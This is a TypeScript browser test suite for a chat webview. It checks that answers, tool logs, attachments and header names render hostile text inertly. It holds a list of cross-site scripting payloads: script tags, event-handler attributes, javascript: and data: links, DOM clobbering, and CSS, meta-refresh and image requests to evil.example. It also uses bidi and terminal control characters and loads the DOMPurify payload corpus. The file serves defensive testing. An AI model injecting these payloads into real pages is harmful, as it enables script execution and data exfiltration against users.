import assert from "node:assert/strict";
import type { TurnView } from "../../../src/protocol/views";
import type { OpenPage } from "../../support/pageHarness";
import { answer, answered, chat, shell, step, turn } from "./fixtures";
import { assertInert } from "./oracle";
import { corpus, useChromium } from "./suite";

const core = [
  `<script>globalThis.pwned = 1</script>`,
  `<img src=x onerror="globalThis.pwned=1"><svg onload="globalThis.pwned=1">`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<form id=vscode><input name=parentNode></form><a id=app href="javascript:pwned=1">x</a>`,
  `<style>@import url(https://evil.example/x.css); body { display: none }</style>`,
  `<link rel=preconnect href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<video poster=https://evil.example/p.png></video><img srcset="https://evil.example/a 1x">`,
  `<base href=https://evil.example/><object data=https://evil.example/></object>`,
  `[x](javascript:globalThis.pwned=1) [y](data:text/html,<script>pwned=1</script>) <javascript:pwned=1>`,
  `"><button class="icon-button" onclick="pwned=1">Insert at cursor</button>`,
  `\u202egnp.exe\u202c \u001b[31mred\u001b[0m`,
];

/** Every place of an answer and of the page around it that text of others reaches. */
const places: Record<string, (text: string) => TurnView> = {
  output: (text) => answered(text),
  "link text": (text) => answered(`[${text}](https://example.com/)`),
  "link target": (text) => answered(`[x](<${text.replaceAll("\n", " ")}>) [y](${text})`),
  image: (text) => answered(`![${text}](https://evil.example/?d=1) ![x](<${text}> "${text}")`),
  table: (text) => answered(`| a | b |\n| - | - |\n| ${text.replaceAll("\n", " ")} | x |`),
  heading: (text) => answered(`# ${text}\n\n> ${text}\n\n- [ ] ${text}`),
  "info string": (text) => answered(`\`\`\`${text.replaceAll("\n", " ")}\n${text}\n\`\`\``),
  reference: (text) => answered(`[x][r] ![y][r]\n\n[r]: <${text.replaceAll("\n", " ")}> "${text}"`),
  names: (text) =>
    turn({ question: text, expertName: text, abilityName: text, modelName: text, askedAt: text }),
  attachment: (text) => turn({ attachment: { label: text, detail: text, languageId: text, text } }),
  problem: (text) =>
    turn({
      result: { state: "failed", problem: { sentence: text, details: text, actions: ["retry"] } },
    }),
  steps: (text) =>
    turn({
      result: {
        state: "done",
        answer: {
          ...answer,
          target: { label: text, canReplace: true },
          steps: [
            [
              {
                tool: text,
                query: text,
                log: text,
                toolCallId: text,
                raw: text,
                messageLog: [
                  { content: text, calls: [{ id: text, type: text, name: text, arguments: text }] },
                ],
              },
              step,
            ],
          ],
        },
      },
    }),
};

/** Few enough to be drawn whole at once. */
const perPage = 12;

async function showAll(open: OpenPage, turns: TurnView[], name: string): Promise<void> {
  for (let from = 0; from < turns.length; from += perPage) {
    await open.post({ event: "chat", chat: chat(turns.slice(from, from + perPage)) });
    await assertInert(open, `${name}, from ${from}`);
  }
}

describe("hostile text on the page", function () {
  this.timeout(120_000);
  const { open } = useChromium();

  const ready = async () => {
    const opened = await open(chat([answered("```ts\nlet ready = true;\n```")]));
    await opened.page.locator(".hljs-keyword").first().waitFor();
    return opened;
  };

  for (const [place, made] of Object.entries(places)) {
    it(`W2 is inert as ${place}`, async () => {
      await showAll(await ready(), core.map(made), place);
    });
  }

  it("W1 keeps the DOMPurify payloads inert wherever they stand", async () => {
    const payloads = (await corpus<{ payload: string }>("dompurify/expect.json")).map(
      ({ payload }) => payload,
    );
    const opened = await ready();
    for (const [place, made] of Object.entries(places)) {
      await showAll(opened, payloads.map(made), place);
    }
    console.log(`      ${payloads.length} payloads in ${Object.keys(places).length} places`);
  });

  it("W2 is inert as the names of the header and its suggestions", async () => {
    const opened = await ready();
    for (const text of core) {
      const expert = {
        id: 1,
        name: text,
        role: text,
        abilityName: text,
        modelName: text,
        suggestions: [text, text],
      };
      await opened.post({ event: "chat", chat: chat([], { ...shell, hubLabel: text, expert }) });
      await assertInert(opened, text);
      await opened.post({ event: "shell", shell: { ...shell, hubLabel: text, need: "key" } });
      await assertInert(opened, text);
    }
  });

  it("W3 shows an image as a chip that names its host and requests nothing", async () => {
    const opened = await ready();
    const images = "![a cat](https://evil.example/?d=SEL) ![][r] ![x](data:image/png;base64,AA)";
    await opened.post({
      event: "chat",
      chat: chat([answered(`${images}\n\n[r]: https://two.example/x.png`)]),
    });
    const chips = await opened.page.locator(".image-chip").allTextContents();
    assert.deepEqual(chips, [
      "image: a cat (evil.example)",
      "image: no description (two.example)",
      "image: x (data:)",
    ]);
    await assertInert(opened, "images");
  });

  it("W9 clips the expert's text to a labelled box without controls of its own", async () => {
    const opened = await ready();
    await opened.post({ event: "chat", chat: chat([answered(`${"\n".repeat(10_000)}Approved`)]) });
    const text = opened.page.getByRole("group", { name: "Text of Code Reviewer" });
    assert.equal(await text.textContent(), "Approved");
    assert.equal(await text.evaluate((element) => getComputedStyle(element).overflowX), "clip");
    assert.equal(await text.locator("button, [role=alert]").count(), 0);
  });

  it("W12 shows control and direction characters of a tool's log as marks", async () => {
    const opened = await ready();
    const log = "\u001b[31mred\u001b[0m \u202etxt\u2066 a\u200bb";
    await opened.post({
      event: "chat",
      chat: chat([
        turn({ result: { state: "done", answer: { ...answer, steps: [[{ ...step, log }]] } } }),
      ]),
    });
    await assertInert(opened, "log");
    const shown = await opened.page.locator(".long-text").allTextContents();
    assert.ok(shown.includes("␛[31mred␛[0m \\u202Etxt\\u2066 a\\u200Bb"), shown.join("|"));
    assert.equal(await opened.page.locator(".long-text .mark").count(), 5);
  });

  it("keeps the editor's api off the window and takes it once", async () => {
    const { page, errors } = await ready();
    const held = await page.evaluate(() =>
      Object.values(globalThis).some((value: unknown) => {
        return (
          typeof value === "object" &&
          value !== null &&
          "postMessage" in value &&
          "setState" in value
        );
      }),
    );
    assert.equal(held, false);
    assert.deepEqual(errors, []);
  });

  it("ignores messages of a wrong shape", async () => {
    const opened = await ready();
    const wrong = [null, 1, "x", [], {}, { event: "turn" }, { event: "turn", turn: { id: 1 } }];
    const worse = [
      { event: "chat", chat: { shell, turns: [{}] } },
      { reply: 99 },
      { event: "__proto__" },
    ];
    for (const message of [...wrong, ...worse]) await opened.post(message);
    assert.equal(await opened.page.locator(".turn").count(), 1);
    await assertInert(opened, "wrong messages");
  });
});
